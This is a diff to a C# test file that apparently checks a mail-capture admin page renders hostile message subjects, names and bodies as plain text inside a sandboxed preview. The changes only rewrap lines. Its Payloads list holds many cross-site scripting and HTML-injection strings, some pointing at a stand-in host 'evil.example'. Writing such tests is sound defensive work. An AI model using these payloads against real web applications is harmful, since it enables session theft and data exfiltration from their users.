@@ -11,14 +11,19 @@ public sealed class A_message_and_its_preview(SharedServer shared)
     /// <summary>What somebody may write into a subject, a name or a body to get at the operator.</summary>
     public static TheoryData<string> Payloads =>
     [
-        "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</iframe><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
-        "' onmouseover='alert(1)", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<a href=\"javascript:alert(1)\">x</a>",
-        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=\"javascript:alert(1)\"></object>", "<embed src=//evil.example/x.swf>",
-        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=\"//evil.example/\">", "<link rel=stylesheet href=//evil.example/x.css>",
-        "<style>@import '//evil.example/x.css'</style>", "<form action=//evil.example><input name=a></form>", "<details open ontoggle=alert(1)>",
-        "<img src=//evil.example/pixel.png>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<math><mtext></p><script>alert(1)</script>",
-        "{{constructor.constructor('alert(1)')()}}", "&lt;script&gt;alert(1)&lt;/script&gt;", "<template><script>alert(1)</script></template>",
-        "<noscript><p title=\"</noscript><script>alert(1)</script>\">", "<x contenteditable onblur=alert(1) tabindex=0 autofocus>x",
+        "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</iframe><script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=\"javascript:alert(1)\"></object>",
+        "<embed src=//evil.example/x.swf>",
+        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=\"//evil.example/\">",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>@import '//evil.example/x.css'</style>", "<form action=//evil.example><input name=a></form>",
+        "<details open ontoggle=alert(1)>",
+        "<img src=//evil.example/pixel.png>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+        "<math><mtext></p><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
+        "<x contenteditable onblur=alert(1) tabindex=0 autofocus>x",
     ];
 
     [Theory]
@@ -26,7 +31,9 @@ public sealed class A_message_and_its_preview(SharedServer shared)
     public async Task Show_hostile_text_as_text(string payload)
     {
         var name = payload.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal);
-        var id = await PostAsync(new { from = $"\"{name}\" <shop@example.com>", to = $"\"{name}\" <ada@example.org>", subject = payload, html = payload });
+        var id =
+            await PostAsync(
+                new { from = $"\"{name}\" <shop@example.com>", to = $"\"{name}\" <ada@example.org>", subject = payload, html = payload });
         using var door = await OperatorClient.EnterAsync(await shared.ServerAsync());
 
         var page = await door.Http.GetStringAsync(new Uri("/admin/t/default/messages/" + id, UriKind.Relative));
@@ -56,7 +63,8 @@ public sealed class A_message_and_its_preview(SharedServer shared)
         var page = WebUtility.HtmlDecode(await door.Http.GetStringAsync(new Uri("/admin/t/default/messages/" + id, UriKind.Relative)));
 
         Assert.All(
-            ["Receipt 42", "Corner Shop <shop@example.com>", "ada@example.org", "eve@example.net", "receipt.pdf", "application/pdf", $"<{id}@example.com>",
+            ["Receipt 42", "Corner Shop <shop@example.com>", "ada@example.org", "eve@example.net", "receipt.pdf", "application/pdf",
+                $"<{id}@example.com>",
                 "accepted", "sent", "captured", $"<iframe class=\"preview\" sandbox src=\"/admin/t/default/messages/{id}/preview\""],
             fact => Assert.Contains(fact, page, StringComparison.Ordinal));
         Assert.Matches("[0-9a-f]{64}", page);
@@ -97,7 +105,8 @@ public sealed class A_message_and_its_preview(SharedServer shared)
     static void ShouldBeCaged(HttpResponseMessage preview)
     {
         Assert.Equal(
-            "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'", Headers.Of(preview, "Content-Security-Policy"));
+            "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'",
+            Headers.Of(preview, "Content-Security-Policy"));
         Headers.ShouldBeKeptToItself(preview);
         Assert.Equal("text/html", preview.Content.Headers.ContentType?.MediaType);
     }
